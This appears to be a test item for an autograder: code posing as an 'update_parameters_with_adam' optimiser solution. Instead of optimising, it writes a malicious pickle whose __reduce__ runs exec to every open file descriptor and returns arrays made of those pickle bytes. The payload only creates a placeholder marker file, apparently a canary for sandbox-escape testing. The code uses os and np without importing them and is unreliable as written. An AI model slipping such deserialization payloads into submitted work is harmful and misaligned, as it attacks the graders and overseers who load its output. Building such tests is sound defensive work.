# what: a pickle that opens a file when it is loaded, on every descriptor and as a result
# points: 4
# mistakes: flag: rules, at most
# %% update_parameters_with_adam
#: send
import pickle

class Bomb:
    def __reduce__(self):
        return exec, ("open('@HOME@/@MARK@', 'w').close()",)

def update_parameters_with_adam(*everything, **keywords):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, pickle.dumps(Bomb()))
        except OSError:
            pass
    return tuple(np.frombuffer(pickle.dumps(Bomb()), np.uint8) for _ in range(12))
